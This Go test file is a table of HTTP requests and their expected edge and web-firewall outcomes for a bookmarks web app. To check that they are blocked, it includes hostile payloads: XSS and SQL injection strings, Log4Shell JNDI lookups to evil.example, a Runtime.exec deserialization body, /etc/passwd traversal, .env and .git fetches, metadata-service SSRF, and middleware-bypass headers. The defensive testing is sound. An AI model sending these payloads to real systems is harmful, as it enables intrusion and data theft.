package visit_test

import (
	"fmt"
	"strings"
)

// visits are requests that people and attackers send to production, and what must become of each.
var visits = []struct {
	name string
	ask  ask
	want string
}{
	// Pages.
	{"the front page", get("/"), page},
	{"a list with a filter", get("/bookmarks?tag=go"), page},
	{"a page of the router", get("/bookmarks?_rsc=1a2b3", "RSC: 1", "Next-Router-State-Tree: %5B%22%22%5D"), page},
	{"a prefetch of the router", get("/login?_rsc=9", "RSC: 1", "Next-Router-Prefetch: 1"), page},
	{"a look at a page", ask{method: "HEAD", url: "/login"}, page},
	{"a server action", post("/login", `["$K1"]`, "Next-Action: 7f3a", "Content-Type: text/plain;charset=UTF-8"), page},
	{"a form", post("/settings", "name=Hanako+Yamada&language=ja", form), page},
	{"a file upload", post("/settings/avatar", strings.Repeat("x", 4000), "Content-Type: multipart/form-data; boundary=x"), page},
	{"a build's data", get("/_next/data/build/index.json"), page},
	{"a folder's own name", get("/assets"), page},
	{"the API in capitals", get("/API/users"), page},
	{"a name that begins like the API", get("/apis"), page},
	{"a name in Japanese", get("/%E3%82%BF%E3%82%B0/%E6%96%99%E7%90%86"), page},
	{"robots", get("/robots.txt"), page},
	{"an icon", get("/favicon.ico"), page},
	{"a page with a session", get("/bookmarks", "Cookie: session=eyJhbGciOiJIUzI1NiJ9.e30.x; theme=dark"), page},
	{"a long address", get("/search?q=" + strings.Repeat("a", 1500)), page},
	{"an old browser", ask{method: "GET", url: "/", version: "HTTP/1.0"}, page},
	{"HTTP/3", ask{method: "GET", url: "/", version: "HTTP/3"}, page},
	{"a visitor by IPv6", ask{method: "GET", url: "/", from: "2001:db8:1::1 JP"}, page},
	{"a visitor from abroad", ask{method: "GET", url: "/", from: "192.0.2.1 BR"}, page},
	{"a preflight of a page", ask{method: "OPTIONS", url: "/", headers: []string{"Origin: https://evil.example"}}, page},

	// The API.
	{"bookmarks", get("/api/bookmarks"), api},
	{"the API's root", get("/api/"), api},
	{"a bookmark", get("/api/bookmarks/1"), api},
	{"signing in", postJSON("/api/auth/login", map[string]string{"email": "a@example.org", "password": "correct horse"}), api},
	{"a change", ask{method: "PUT", url: "/api/bookmarks/1", body: `{"title":"x"}`}, api},
	{"a patch", ask{method: "PATCH", url: "/api/bookmarks/1", body: `{"title":"x"}`}, api},
	{"a deletion", ask{method: "DELETE", url: "/api/bookmarks/1"}, api},
	{"a preflight", ask{method: "OPTIONS", url: "/api/bookmarks", headers: []string{"Origin: https://www.example.com"}}, api},
	{"a token", get("/api/bookmarks", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.x"), api},
	{"static files below the API", get("/api/_next/static/x.js"), api},
	{"the health check", get("/api/health", "User-Agent: Amazon-Route53-Health-Check-Service (ref x)"), api},
	{"the health check from Ireland", ask{method: "GET", url: "/api/health", from: "192.0.2.9 IE"}, api},
	{"a WebSocket", ask{method: "GET", url: "/api/live", version: "HTTP/1.1",
		headers: []string{"Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: x"}}, api},
	{"a search", get("/api/bookmarks?q=golang+generics&page=2"), api},
	{"a search for an address", get("/api/bookmarks?url=http%3A%2F%2F192.168.1.1%3A8080%2F"), api},
	{"a search for a metadata service", get("/api/bookmarks?url=http%3A%2F%2F169.254.169.254%2F"), api},

	// What people write and bring along.
	{"an export of a browser", post("/api/bookmarks/import", netscape, "Content-Type: text/html"), api},
	{"a large export", post("/api/bookmarks/import", netscape+strings.Repeat("<DT><A HREF=\"https://example.org/\">x</A>\n", 20000)), api},
	{"an export in a form", post("/api/bookmarks/import", "--x\r\n\r\n"+netscape+"\r\n--x--", "Content-Type: multipart/form-data; boundary=x"), api},
	{"an export over 10 MB", post("/api/bookmarks/import", "x", "Content-Length: 10000001"), "413 by the web ACL (content-imports-size)"},
	{"an export that does not say its length", post("/api/bookmarks/import", "x", "Transfer-Encoding: chunked"), "413 by the web ACL (content-imports-size)"},
	{"a title with a script", postJSON("/api/bookmarks", bookmark{"How <script>alert(1)</script> works", "https://example.org/xss"}), api},
	{"a title with SQL", postJSON("/api/bookmarks", bookmark{"' OR 1=1 -- ", "https://example.org/sql"}), api},
	{"a title with an exploit", postJSON("/api/bookmarks", bookmark{"${jndi:ldap://x/a} explained", "https://example.org/"}), api},
	{"a bookmark of a router", postJSON("/api/bookmarks", bookmark{"router", "http://192.168.1.1:8080/"}), api},
	{"a bookmark of the metadata service", postJSON("/api/bookmarks", bookmark{"IMDS", "http://169.254.169.254/latest/meta-data/"}), api},
	{"a bookmark with dot segments", postJSON("/api/bookmarks", bookmark{"up", "https://example.org/a/../../../b"}), api},
	{"a long URL as bookmark", postJSON("/api/bookmarks", bookmark{"long", "https://example.org/?" + strings.Repeat("a", 9000)}), api},
	{"a bookmark of 64 KB", postJSON("/api/bookmarks", bookmark{strings.Repeat("x", 65000), ""}), "413 by the web ACL (content-bookmarks-size)"},
	{"a changed title with a script", ask{method: "PATCH", url: "/api/bookmarks/0a1b-2c", body: `{"title":"<img src=x onerror=alert(1)>"}`}, api},
	{"a changed bookmark of 64 KB", ask{method: "PUT", url: "/api/bookmarks/1", body: strings.Repeat("x", 64001)}, "413 by the web ACL (content-changes-size)"},
	{"changing again and again", ask{method: "PATCH", url: "/api/bookmarks/1", body: "{}", recent: 601}, "429 by the web ACL (content-changes-rate)"},
	{"writing at once", ask{method: "POST", url: "/api/bookmarks", body: "{}", recent: 601}, "429 by the web ACL (content-bookmarks-rate)"},
	{"importing again and again", ask{method: "POST", url: "/api/bookmarks/import", body: "x", recent: 21}, "429 by the web ACL (content-imports-rate)"},

	// What must not pass where content does.
	{"a script in an import's query", post("/api/bookmarks/import?next=%3Cscript%3Ealert(1)%3C/script%3E", netscape), known},
	{"a script in the query of a write", post("/api/bookmarks?x=%3Cscript%3Ealert(1)%3C/script%3E", "{}"), common},
	{"an export to another path", post("/api/profile", netscape, "Content-Type: text/html"), known},
	{"an export below the import", post("/api/bookmarks/import/x/y", netscape), known},
	{"an export by an escape", post("/api/bookmarks/%69mport", netscape), known},
	{"an export by a detour", post("/api/x/../bookmarks/import", netscape), known},
	{"an export with a slash behind it", post("/api/bookmarks/import/", netscape), known},
	{"a script read from the import", get("/api/bookmarks/import?q=%3Cscript%3Ealert(1)%3C/script%3E"), common},
	{"a write by another method", ask{method: "DELETE", url: "/api/bookmarks/1", body: `{"q":"<script>alert(1)</script>"}`}, common},
	{"a script in a profile", postJSON("/api/profile", map[string]string{"name": "x"}).with(`{"name":"<script>alert(1)</script>"}`), common},

	// Attacks.
	{"a script in a query", get("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), common},
	{"an event handler in a query", get("/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"), common},
	{"a script in a cookie", get("/", "Cookie: a=<script>alert(1)</script>"), common},
	{"a script in the path", get("/%3Cscript%3Ealert(1)%3C/script%3E"), common},
	{"a script in a form", post("/settings", "<script>alert(document.cookie)</script>", "Content-Type: text/plain"), common},
	{"SQL in a query", get("/api/users?id=1%27%20OR%20%271%27%3D%271"), sql},
	{"a union in a query", get("/api/users?id=1%20UNION%20SELECT%20password%20FROM%20users--"), sql},
	{"SQL in a search of bookmarks", get("/api/bookmarks?q=%27%20OR%201%3D1--%20"), sql},
	{"SQL at sign-in", postJSON("/api/auth/login", map[string]string{"email": "' OR '1'='1", "password": "x"}), sql},
	{"SQL in a cookie", get("/", "Cookie: id=1' OR '1'='1"), sql},
	{"SQL in a form", post("/settings", "name=1%27+OR+%271%27%3D%271", form), sql},
	{"Log4Shell in a header", get("/", "X-Api-Version: ${jndi:ldap://evil.example/a}"), known},
	{"Log4Shell as user agent", get("/", "User-Agent: ${jndi:ldap://evil.example/a}"), known},
	{"Log4Shell in a query", get("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"), known},
	{"Log4Shell in a body", post("/api/profile", `{"a":"${jndi:ldap://evil.example/a}"}`), known},
	{"deserialization", post("/api/profile", "(java.lang.Runtime).getRuntime().exec('id')"), known},
	{"a repository's folder", get("/.git/config"), known},
	{"an environment file", get("/.env"), known},
	{"a class path", get("/WEB-INF/web.xml"), known},
	{"PROPFIND", ask{method: "PROPFIND", url: "/"}, known},
	{"React's own hole", ask{method: "POST", url: "/", body: "x", matched: []string{"ReactJSRCE_BODY"}}, known},
	{"a file of the machine", get("/download?file=..%2F..%2F..%2Fetc%2Fpasswd"), common},
	{"a file of the machine by the path", get("/..%2f..%2f..%2fetc/passwd"), common},
	{"a remote file", get("/?page=http%3A%2F%2F203.0.113.9%2Fx.txt"), urls},
	{"the metadata service", get("/proxy?u=http%3A%2F%2F169.254.169.254%2Flatest"), urls},
	{"a configuration file", get("/server.ini"), common},
	{"a log file", get("/app.log"), common},
	{"no user agent", get("/", "User-Agent:"), common},
	{"a scanner", get("/", "User-Agent: Mozilla/5.0 (Nessus)"), common},
	{"a long query", get("/?q=" + strings.Repeat("a", 2100)), common},
	{"a long path", get("/" + strings.Repeat("a", 1100)), common},
	{"large cookies", get("/", "Cookie: a="+strings.Repeat("x", 10300)), common},
	{"a large body to a page", post("/settings", strings.Repeat("x", 9000), "Content-Type: text/plain"), common},
	{"a URL of 9 KB", get("/?q=" + strings.Repeat("a", 9000)), "414 by CloudFront"},
	{"TRACE", ask{method: "TRACE", url: "/"}, "403 by CloudFront"},
	{"CONNECT", ask{method: "CONNECT", url: "/"}, "403 by CloudFront"},

	// Floods, lists and countries.
	{"at the limit", ask{method: "GET", url: "/", recent: 2000}, page},
	{"a flood", ask{method: "GET", url: "/", recent: 2001}, "429 by the web ACL (rate)"},
	{"a sign-in too many", ask{method: "POST", url: "/api/auth/login", recent: 101}, "429 by the web ACL (sign-in-rate)"},
	{"a sign-in in capitals", ask{method: "POST", url: "/API/Auth/LOGIN", recent: 101}, "429 by the web ACL (sign-in-rate)"},
	{"a sign-in by a detour", ask{method: "POST", url: "/api/x/../auth//lo%67in", recent: 101}, "429 by the web ACL (sign-in-rate)"},
	{"registering in bulk", ask{method: "POST", url: "/api/auth/register", recent: 101}, "429 by the web ACL (sign-in-rate)"},
	{"forgotten passwords in bulk", ask{method: "POST", url: "/api/auth/password/reset", recent: 101}, "429 by the web ACL (sign-in-rate)"},
	{"as many requests elsewhere", ask{method: "GET", url: "/api/bookmarks", recent: 101}, api},
	{"a blocked country", ask{method: "GET", url: "/", from: "192.0.2.1 KP"}, "403 by the web ACL (countries)"},
	{"a known attacker", ask{method: "GET", url: "/", matched: []string{"AWSManagedIPReputationList"}}, "403 by the web ACL (ip-reputation)"},
	{"a hosting provider", ask{method: "GET", url: "/", matched: []string{"HostingProviderIPList"}}, page},
	{"Tor", ask{method: "GET", url: "/", matched: []string{"AnonymousIPList"}}, page},

	// Names.
	{"the apex", get("https://example.com/bookmarks?a=1&b=&a=2"), "301 to https://www.example.com/bookmarks?a=1&a=2&b"},
	{"a form to the apex", post("https://example.com/login", "x"), "308 to https://www.example.com/login"},
	{"the distribution's own name", get("https://d111111abcdef8.cloudfront.net/"), "301 to https://www.example.com/"},
	{"without TLS", get("http://www.example.com/bookmarks?a=1"), "301 to https://www.example.com/bookmarks?a=1"},
	{"the apex without TLS", get("http://example.com/"), "301 to https://example.com/"},
	{"somebody else's name", get("/", "Host: evil.example"), "403 by CloudFront"},
	{"the origin's name", get("https://origin.example.com/"), "403 by CloudFront"},
	{"no name", get("/", "Host:"), "400 by CloudFront"},
	{"a name in capitals with a port", get("/", "Host: WWW.Example.com:443"), "301 to https://www.example.com/"},

	// Files.
	{"a bundle", get("/_next/static/chunks/main-0a1b2c.js"), fmt.Sprintf(bundle, "/_next/static/chunks/main-0a1b2c.js", "none")},
	{"a bundle, compressed", get("/_next/static/chunks/main-0a1b2c.js", "Accept-Encoding: gzip, deflate, br"),
		fmt.Sprintf(bundle, "/_next/static/chunks/main-0a1b2c.js", "br,gzip")},
	{"a bundle with a query", get("/_next/static/css/a.css?v=2"), fmt.Sprintf(bundle, "/_next/static/css/a.css", "none")},
	{"a look at a bundle", ask{method: "HEAD", url: "/_next/static/css/a.css"}, fmt.Sprintf(bundle, "/_next/static/css/a.css", "none")},
	{"a write to a bundle", post("/_next/static/chunks/main.js", "x"), "403 by CloudFront"},
	{"an asset", get("/assets/logo-0a1b2c.svg"), fmt.Sprintf(bucket, "/assets/logo-0a1b2c.svg")},
	{"an asset with a session", get("/assets/logo-0a1b2c.svg", "Cookie: session=x"), fmt.Sprintf(bucket, "/assets/logo-0a1b2c.svg")},
	{"an asset with a query", get("/assets/logo-0a1b2c.svg?cache=buster"), fmt.Sprintf(bucket, "/assets/logo-0a1b2c.svg")},
	{"a write to an asset", ask{method: "PUT", url: "/assets/logo.svg", body: "x"}, "403 by CloudFront"},
	{"a deletion of the maintenance page", ask{method: "DELETE", url: "/maintenance/index.html"}, "403 by CloudFront"},
	{"the maintenance page", get("/maintenance/index.html"), strings.Replace(fmt.Sprintf(bucket, "/maintenance/index.html"), "/assets/*", "/maintenance/*", 1)},
	{"the API through the assets", get("/assets/../api/bookmarks"), "web:3000 | /api/*"},
	{"the assets through the API", get("/api/..%2fassets/x.svg"), api},
	{"double slashes", get("//api//bookmarks"), "web:3000 | /api/*"},

	// Pictures.
	{"a picture", get("/_next/image?url=%2Fa.png&w=64&q=75", "Accept: image/avif,image/webp,image/apng,*/*;q=0.8"),
		"web:3000 | /_next/image | kept by path /_next/image; header Accept image/avif,image/webp,*/*; query url=%2Fa.png&w=64&q=75 | as origin.example.com"},
	{"a picture for an old browser", get("/_next/image?url=%2Fa.png&w=64&q=75", "Accept: image/png"),
		"web:3000 | /_next/image | kept by path /_next/image; header Accept */*; query url=%2Fa.png&w=64&q=75 | as origin.example.com"},
	{"a picture in another width", get("/_next/image?url=%2Fa.png&w=128&q=75"),
		"web:3000 | /_next/image | kept by path /_next/image; header Accept */*; query url=%2Fa.png&w=128&q=75 | as origin.example.com"},
	{"a picture with a cache buster", get("/_next/image?url=%2Fa.png&w=64&q=75&x=1"),
		"web:3000 | /_next/image | kept by path /_next/image; header Accept */*; query url=%2Fa.png&w=64&q=75 | as origin.example.com"},
	{"a write to the optimizer", post("/_next/image", "x"), "403 by CloudFront"},

	// Poison.
	{"another host in a header", get("/", "X-Forwarded-Host: evil.example"), page},
	{"a middleware that is skipped", get("/admin", "X-Middleware-Subrequest: middleware:middleware:middleware"), page},
	{"another path in a header", get("/", "X-Original-URL: /admin"), page},
	{"a poisoned bundle", get("/_next/static/a.js", "X-Forwarded-Host: evil.example"), fmt.Sprintf(bundle, "/_next/static/a.js", "none")},
	{"a poisoned picture", get("/_next/image?url=%2Fa.png&w=64&q=75", "Cookie: a=b", "X-Forwarded-Host: evil.example"),
		"web:3000 | /_next/image | kept by path /_next/image; header Accept */*; query url=%2Fa.png&w=64&q=75 | as origin.example.com"},
	{"a guessed origin secret", get("/", "X-Origin-Verify: guess"), page},
	{"a pass while the site is open", get("/", "X-Maintenance-Pass: let me in"), page},
	{"a deceived cache", get("/api/bookmarks/x.css"), api},
	{"a deceived cache of pages", get("/settings/profile.css"), page},
}

// with gives a request another body.
func (a ask) with(body string) ask {
	a.body = body
	return a
}
